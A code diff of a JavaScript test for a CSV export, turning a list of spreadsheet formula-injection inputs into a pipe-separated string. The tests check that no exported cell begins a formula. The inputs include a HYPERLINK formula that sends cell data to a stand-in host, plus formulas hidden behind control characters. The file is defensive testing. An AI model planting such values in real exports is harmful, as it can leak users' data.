@@ -21,40 +21,13 @@ test('an empty table has its header', async () => {
   expect(await csv()).toBe('\ufeff"Name","Text"\r\n');
 });
 
-test.each([
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\uff1d1+1',
-  '=HYPERLINK("http://a.test?"&A1,"x")',
-  ' =1+1',
-  '   =1+1',
-  '\v=1+1',
-  '\f@SUM(A1)',
-  '\0=1+1',
-  '\u001f+1',
-  '\u007f-1',
-  '\u0085=1+1',
-  '\u00a0=1+1',
-  '\u2003=1+1',
-  '\u200b=1+1',
-  '\u2028=1+1',
-  '\u3000=1+1',
-  '\ufeff=1+1',
-  ' \v \uff0b1',
-  'x;=1+1',
-  'x; \v=1+1',
-  'x\n\u200b=1+1',
-  'x;"=1+1',
-  'x; +1',
-  'x\t@SUM(A1)',
-  'Two lines\n=1+1',
-  'Two lines\r\n  -1',
-])('the formula in %j is text in a spreadsheet', async (text) => {
+const FORMULAS =
+  '=1+1|+1|-1|@SUM(A1)|\t=1+1|\r=1+1|\n=1+1|\uff1d1+1|=HYPERLINK("http://a.test?"&A1,"x")| =1+1|   =1+1|\v=1+1|' +
+  '\f@SUM(A1)|\0=1+1|\u001f+1|\u007f-1|\u0085=1+1|\u00a0=1+1|\u2003=1+1|\u200b=1+1|\u2028=1+1|\u3000=1+1|' +
+  '\ufeff=1+1| \v \uff0b1|x;=1+1|x; \v=1+1|x\n\u200b=1+1|x;"=1+1|x; +1|x\t@SUM(A1)|Two lines\n=1+1|' +
+  'Two lines\r\n  -1';
+
+test.each(FORMULAS.split('|'))('the formula in %j is text in a spreadsheet', async (text) => {
   const [, row = ''] = (await csv([{ name: 'Row', text }])).split('"Row",');
   // However a spreadsheet splits the row, no cell starts a formula.
   const cells = row.split(/[;,\t\r\n]/).map((cell) => cell.replace(/^["\s\p{C}]+/u, ''));
